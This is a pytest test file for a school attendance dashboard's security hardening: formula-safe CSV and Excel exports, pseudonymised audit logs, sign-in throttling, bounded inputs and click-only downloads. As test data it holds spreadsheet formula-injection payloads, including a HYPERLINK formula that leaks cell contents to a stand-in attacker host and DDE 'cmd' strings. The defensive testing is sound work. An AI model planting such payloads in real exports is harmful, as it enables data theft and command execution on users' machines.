"""Safe under attack and accident (issue 16, items 4 to 6 and 8): exports are inert, the audit
log keeps pseudonyms not identifiers, sign-in is throttled per client without a lock-out that
anyone can prolong, input lengths are bounded, downloads are made only on a click."""

from __future__ import annotations

import datetime as dt
import io
from contextlib import closing

import openpyxl
import pandas as pd
import pytest
from conftest import dashboard_app

import access
import queries
import ui
from actions import agenda, exports, store
from auth import audit, users
from auth import session as auth_session
from auth import store as app_store

OFFICER = queries.Scope(pupil_rows_allowed=True, role="la_officer", user="officer@test.invalid")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


@pytest.fixture()
def fresh_store(tmp_path, monkeypatch):
    monkeypatch.setenv("ATTENDANCE_APP_STORE", str(tmp_path / "app_store.sqlite"))
    monkeypatch.setenv("ATTENDANCE_PSEUDONYM_KEY", "test-hardening")
    return tmp_path


# --- 4. exports are inert ------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_a_formula_are_neutralised(start):
    df = pd.DataFrame({"owner": [start + "cmd|' /C calc'!A0", "Ms Smith"], "n": [-3, 4]})
    text = ui.csv_bytes(df, False, "note").decode()
    assert f"'{start}cmd" in text
    assert "\nMs Smith,4" in text.replace('"', "") and ",-3" in text  # numbers stay numbers


def test_excel_pack_writes_typed_text_as_values_never_formulas(demo_db, fresh_store, monkeypatch):
    monkeypatch.setenv("ATTENDANCE_DB", str(demo_db))
    queries._cached.clear()
    terms = agenda.terms()
    key = terms.iloc[-1]["term_key"]
    urn = int(queries.execute("schools_list").query("phase == 'Primary'")["urn"].min())
    store.add_action(
        OFFICER,
        urn=urn,
        meeting_term=key,
        cohort="Eligible for FSM",
        strategy_id="poverty_support",
        stage="Facilitate support",
        action_date=agenda.term(key).period.week_from,
        owner=FORMULA,
        outcome="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    ag = agenda.build(OFFICER, urn, key)
    meta = dict(queries.execute("warehouse_meta").values.tolist())
    wb = openpyxl.load_workbook(io.BytesIO(exports.meeting_pack_xlsx(ag, OFFICER, meta)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    typed = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert typed and all(v.startswith("'=") for v in typed)
    queries._cached.clear()


def test_action_text_is_bounded_in_the_store(demo_db, fresh_store, monkeypatch):
    monkeypatch.setenv("ATTENDANCE_DB", str(demo_db))
    key = agenda.terms().iloc[-1]["term_key"]
    urn = int(queries.execute("schools_list")["urn"].min())
    with pytest.raises(store.ActionError, match="at most 4,000"):
        store.add_action(
            OFFICER,
            urn=urn,
            meeting_term=key,
            cohort="Whole school",
            strategy_id="poverty_support",
            stage="Facilitate support",
            action_date=agenda.term(key).period.week_from,
            outcome="x" * 200_000,
        )


# --- 5. the audit log keeps no identifiers ----------------------------------------------------


def test_audit_log_holds_pseudonyms_not_pupil_ids(fresh_store):
    audit.record(
        OFFICER,
        "view",
        "meeting_action_attendance",
        {"action_pupils": ["D33504017", "D00000001"], "action_urns": [990001, 990002], "weeks": 6},
    )
    audit.record(OFFICER, "view", "pupil_profile", {"pupil_id": "D33504017", "urn": 990001})
    log = audit.read_log()
    text = log.to_csv()
    assert "D33504017" not in text and "D00000001" not in text
    assert app_store.pseudonym(990001, "D33504017") in text
    assert app_store.pseudonym(990002, "D00000001") in text


# --- 6. sign-in throttled per client, and a lock-out always ends ------------------------------


def test_account_lock_applies_only_at_the_client_that_failed(fresh_store, monkeypatch):
    monkeypatch.setattr(users, "verify", lambda e, p, path=None: None)
    for _ in range(auth_session.MAX_FAILURES):
        assert auth_session._try_local("head@school.example", "guess", client="attacker")
    locked = auth_session._try_local("head@school.example", "guess", client="attacker")
    assert locked.startswith("Too many wrong passwords for this account from this device")
    # the head, elsewhere, is not locked out by someone else's guesses
    assert auth_session._try_local("head@school.example", "typo", client="the-head") == (
        "That email and password do not match an account."
    )


def test_a_client_guessing_across_accounts_waits_a_doubling_delay_that_ends(fresh_store, monkeypatch):
    monkeypatch.setattr(users, "verify", lambda e, p, path=None: None)
    for i in range(auth_session.CLIENT_FREE_FAILURES):
        auth_session._try_local(f"user{i}@school.example", "guess", client="sprayer")
    msg = auth_session._try_local("another@school.example", "guess", client="sprayer")
    assert msg.startswith("Too many failed sign-ins from this device: try again in")
    assert auth_session._wait_seconds(10, dt.datetime.now(dt.UTC).isoformat()) == pytest.approx(5, abs=1)
    assert auth_session._wait_seconds(12, dt.datetime.now(dt.UTC).isoformat()) == pytest.approx(20, abs=1)
    assert (
        auth_session._wait_seconds(40, dt.datetime.now(dt.UTC).isoformat()) <= auth_session.MAX_DELAY_SECONDS
    )
    # after the delay, and once the failures are 15 minutes old, the client may try again
    with closing(app_store.connect()) as con:
        con.execute(
            "update audit_log set at = ? where action = 'sign_in_failed'", ("2000-01-01T00:00:00+00:00",)
        )
        con.commit()
    assert auth_session._try_local("another@school.example", "guess", client="sprayer") == (
        "That email and password do not match an account."
    )


def test_sign_in_fields_are_bounded_before_anything_is_stored(fresh_store):
    msg = auth_session._try_local("a" * 200_000 + "@x.example", "pw", client="c")
    assert msg == "That email and password do not match an account."
    log = audit.read_log()
    assert log["user"].str.len().max() <= 254


# --- 8. downloads are made on the click, not pushed with the page ----------------------------


def test_no_download_is_sent_before_a_click(demo_db, monkeypatch):
    monkeypatch.setenv("ATTENDANCE_DB", str(demo_db))
    monkeypatch.setenv("ATTENDANCE_DEMO_MODE", "1")
    at = dashboard_app(120).run()
    at.switch_page("pages/school.py")
    at.run()
    at.selectbox(key="urn").set_value(int(queries.execute("schools_list")["urn"].min()))
    at.run()
    buttons = list(at.get("download_button"))
    for tab in ("Year and pupil groups", "Days and reasons", "Punctuality and part-time"):
        buttons += at.open_tab(tab, "school_section").get("download_button")
    assert len(buttons) >= 5
    assert all(b.proto.url == "" and b.proto.deferred_file_id for b in buttons)


# --- 6. exports below LA level are suppressed for every role but the LA's -------------------


def _downloads(demo_db, monkeypatch, role: str, page: str, tabs: tuple = ()) -> dict[str, str]:
    """Every CSV a page offers (in each of its section tabs named), made as a click would make
    it, for a demo role."""
    made: dict[str, object] = {}

    def capture(label, make, *, file_name, key, **kw):
        made[file_name] = make

    monkeypatch.setattr(ui, "download", capture)
    monkeypatch.setenv("ATTENDANCE_DB", str(demo_db))
    monkeypatch.setenv("ATTENDANCE_DEMO_MODE", "1")
    at = dashboard_app(120)
    at.query_params["demo_role"] = access.ROLES[role].label
    at.run()
    at.switch_page(page)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    for label, key in tabs:
        at.open_tab(label, key)
        assert not at.exception, [e.value for e in at.exception]
    out = {}
    for name, make in made.items():
        body = make()
        out[name] = body.decode() if isinstance(body, bytes) else str(body)
    return out


def _small_counts(csv_text: str) -> list[tuple[str, str]]:
    df = pd.read_csv(io.StringIO(csv_text), comment="#", dtype=str)
    cols = [c for c in df.columns if "enrolments" in c or c in ("pupils", "roll")]
    return [
        (c, v) for c in cols for v in df[c].dropna() if v.replace(".0", "").isdigit() and 0 < float(v) < 5
    ]


def test_school_staff_and_admin_downloads_hold_no_small_counts(demo_db, monkeypatch):
    staff = _downloads(
        demo_db,
        monkeypatch,
        "school_staff",
        "pages/school.py",
        tuple(
            (t, "school_section")
            for t in ("Year and pupil groups", "Days and reasons", "Pupils who may need support")
        ),
    )
    aggregates = {k: v for k, v in staff.items() if not k.startswith("pupil_")}
    assert any("year_groups" in k for k in aggregates), sorted(staff)
    for name, text in aggregates.items():
        assert _small_counts(text) == [], name
    admin = _downloads(demo_db, monkeypatch, "admin", "pages/schools.py")
    assert admin and all(_small_counts(t) == [] for t in admin.values())
    # the LA officer's downloads are the LA's own figures, not suppressed
    officer = _downloads(demo_db, monkeypatch, "la_officer", "pages/schools.py")
    assert any(_small_counts(t) for t in officer.values())
